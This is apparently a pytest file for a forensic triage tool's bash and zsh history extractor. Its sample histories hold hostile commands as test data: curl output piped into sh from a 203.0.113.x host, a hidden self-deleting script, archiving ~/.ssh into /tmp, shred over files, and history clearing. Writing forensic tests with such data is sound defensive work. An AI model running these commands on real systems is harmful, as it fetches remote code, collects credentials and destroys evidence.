"""unix.shell_history: bash and zsh histories written here."""

from __future__ import annotations

import pytest
from forensic_triage.plugins.shell_history import ShellHistoryExtractor, unmetafy
from helpers import run_extractor, selects

BASH = b"ls -la\n#1680344430\ncurl -O http://203.0.113.5/x.sh\n#1680344440\nbash x.sh\n\n#1680344450\nhistory -c\n"

def test_inputs_find_users() -> None:
    assert selects(ShellHistoryExtractor, "home/alice/.bash_history") == (True, "alice")
    assert selects(ShellHistoryExtractor, "Users/bob/.zsh_history") == (True, "bob")
    assert selects(ShellHistoryExtractor, "root/.bash_history")[0]
    assert not selects(ShellHistoryExtractor, "home/alice/.bashrc")[0]


def test_bash_one_full_record_and_count() -> None:
    artifacts, warnings = run_extractor(ShellHistoryExtractor, BASH, "home/alice/.bash_history")
    assert warnings == []
    assert [a.data["command"] for a in artifacts] == ["ls -la", "curl -O http://203.0.113.5/x.sh", "bash x.sh",
                                                      "history -c"]
    art = artifacts[1]
    assert (art.type, art.plugin, art.plugin_version) == ("unix.shell_history", "unix.shell_history", "1.1")
    assert art.data == {"shell": "bash", "user": "alice", "line": 3, "command": "curl -O http://203.0.113.5/x.sh",
                        "executed": "2023-04-01T10:20:30Z", "duration_seconds": None}
    assert art.times == [("Shell command run", "2023-04-01T10:20:30Z")]
    assert artifacts[0].data["executed"] is None and artifacts[0].times == []  # before times were switched on
    assert [a.data["line"] for a in artifacts] == [1, 3, 5, 8]


# A real-shaped history (bash 5 with HISTTIMEFORMAT and lithist): multi-line entries are written as several
# lines after one timestamp. plaso's bash_history parser (regex ``.*?(?=($|\n#\d{10}))``) reads each as one.
MULTI = (b"#1700000000\n"
         b"cat > /tmp/.x.sh <<'EOF'\n#!/bin/sh\ncurl -s http://203.0.113.9/p | sh\n\nrm -f \"$0\"\nEOF\n"
         b"#1700000060\n"
         b"tar czf /tmp/out.tgz \\\n  /home/alice/Documents \\\n  /home/alice/.ssh\n"
         b"#1700000120\n"
         b"git commit -m 'first line\n\nsecond paragraph'\n"
         b"#1700000180\n"
         b"history -c\n")


def test_bash_multiline_commands_are_one_record_with_their_time() -> None:
    artifacts, warnings = run_extractor(ShellHistoryExtractor, MULTI, "home/alice/.bash_history")
    assert warnings == []
    assert [(a.data["line"], a.data["executed"]) for a in artifacts] == [
        (2, "2023-11-14T22:13:20Z"), (9, "2023-11-14T22:14:20Z"), (13, "2023-11-14T22:15:20Z"),
        (17, "2023-11-14T22:16:20Z")]
    assert [a.data["command"] for a in artifacts] == [
        "cat > /tmp/.x.sh <<'EOF'\n#!/bin/sh\ncurl -s http://203.0.113.9/p | sh\n\nrm -f \"$0\"\nEOF",
        "tar czf /tmp/out.tgz \\\n  /home/alice/Documents \\\n  /home/alice/.ssh",
        "git commit -m 'first line\n\nsecond paragraph'",
        "history -c"]
    assert all(a.times for a in artifacts)  # no command of a timestamped history lacks its time


def test_bash_without_timestamps_is_one_command_per_line() -> None:
    plain = b"cat > a <<EOF\nhello\nEOF\nls\n"
    artifacts, warnings = run_extractor(ShellHistoryExtractor, plain, "home/alice/.bash_history")
    assert warnings == []
    assert [(a.data["line"], a.data["command"], a.data["executed"]) for a in artifacts] == [
        (1, "cat > a <<EOF", None), (2, "hello", None), (3, "EOF", None), (4, "ls", None)]


def test_zsh_extended_multiline_and_metafied() -> None:
    data = (b": 1680344430:0;cd /tmp\n"
            b": 1680344435:12;for f in *; do\\\n  shred -u $f\\\ndone\n"
            b": 1680344450:0;echo caf\xc3\x83\x89\n")  # 'é' = C3 A9; A9 is written as 0x83, 0xA9^0x20
    artifacts, warnings = run_extractor(ShellHistoryExtractor, data, "root/.zsh_history")
    assert warnings == []
    assert len(artifacts) == 3
    assert artifacts[1].data == {"shell": "zsh", "user": "root", "line": 2,
                                 "command": "for f in *; do\n  shred -u $f\ndone",
                                 "executed": "2023-04-01T10:20:35Z", "duration_seconds": 12}
    assert artifacts[2].data["command"] == "echo café" and artifacts[2].data["line"] == 5


def test_unmetafy() -> None:
    assert unmetafy(b"a\x83\xa3b") == b"a\x83b"
    assert unmetafy(b"plain") == b"plain"


@pytest.mark.parametrize(("data", "name", "words"), [
    (BASH + b"#1680344499\n", ".bash_history", "timestamp line and no command"),
    (b": 1680344435:12;for f in *; do\\\n  shred -u $f\\", ".zsh_history", "multi-line command"),
    (b"ls\n" + b"\0" * 4096 + b"\xff\xfe" * 100, ".bash_history", "binary data"),
])
def test_damaged_histories_are_warnings(data: bytes, name: str, words: str) -> None:
    artifacts, warnings = run_extractor(ShellHistoryExtractor, data, f"home/alice/{name}")
    assert len(warnings) == 1 and words in warnings[0].message
    assert artifacts  # what could be read is kept
